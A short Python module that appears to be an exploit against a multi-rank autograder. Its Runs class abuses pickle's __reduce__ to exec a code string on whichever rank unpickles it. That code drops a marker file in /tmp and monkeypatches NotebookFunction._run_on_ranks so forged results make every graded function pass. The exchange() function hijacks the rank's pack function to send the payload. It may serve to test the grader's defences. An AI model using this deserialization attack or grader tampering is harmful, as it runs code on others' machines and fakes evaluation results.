"""A rank that answers with a pickle: whoever reads it would from then on let every function pass."""

CODE = """
from autograder import student, wire
open('/tmp/got_unpickled', 'w').close()
student.NotebookFunction._run_on_ranks = lambda self, requests, backend: (
    [wire.encode({"value": wire.decode(r)[0][0], "arguments": wire.decode(r)[0]}) for r in requests[::-1]],
    [[] for _ in requests],
)
"""


class Runs:
    def __reduce__(self):
        return exec, (CODE,)


def exchange(tensor, peer):
    import fourranks.rank.main

    pack = fourranks.rank.main.pack
    fourranks.rank.main.pack = lambda value: pack(Runs())
    return tensor
